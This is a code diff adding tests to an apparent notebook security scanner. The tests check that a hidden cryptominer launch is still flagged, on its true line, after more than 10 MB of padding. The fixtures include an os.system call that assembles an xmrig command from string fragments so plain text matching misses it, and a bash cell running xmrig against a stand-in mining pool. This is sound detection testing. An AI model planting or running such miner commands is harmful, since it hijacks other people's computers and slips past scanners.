@@ -80,3 +80,29 @@ def test_partial_parse_is_bounded():
     assert _parse_blocks(mostly_broken) == (None, [(1, mostly_broken)])
     tree, broken = _parse_blocks("x = 1\na b\ny = 2\n")
     assert tree is not None and len(tree.body) == 2 and [first for first, _ in broken] == [2]
+
+
+def test_padding_past_the_unit_cap_does_not_blunt_the_check(engine):
+    """A payload only a parser sees (a command folded from pieces) after 10 MB of padding
+    is found in a cell and in a scanned file alike, on its true line: units over
+    MAX_UNIT_BYTES are parsed in pieces, not read as text only."""
+    pad = "# " + "x" * 98 + "\n"
+    n = 10_000_000 // len(pad)
+    payload = "import os\nos.system('xm' + 'rig -o strat' + 'um+tcp://pool.example' + '.net:3333 -u w')\n"
+    small = engine.check_cell(payload)
+    assert small.verdict == "flag"
+    code = pad * n + payload
+    for r in (engine.check_cell(code), engine.scan_bytes(code.encode(), "padded.py")):
+        assert r.error is None and r.verdict == "flag"
+        assert {f.rule_id for f in r.findings} == {f.rule_id for f in small.findings}
+        assert {e.line for f in r.findings for e in f.evidence} == {n + 2}
+
+
+def test_a_huge_cell_magic_reads_as_its_language_in_every_piece():
+    from nbwarden.engine.extract import MAX_UNIT_BYTES, Collector
+    from nbwarden.engine.model import Unit
+    pad = "# " + "y" * 98 + "\n"
+    n = (MAX_UNIT_BYTES + (1 << 20)) // len(pad)
+    col = Collector()
+    col.run(Unit("%%bash\n" + pad * n + "./xmrig -o stratum+tcp://pool.example.net:3333\n", cell=3))
+    assert [(f.value, f.line) for f in col.facts if f.kind == "program"] == [("xmrig", n + 2)]
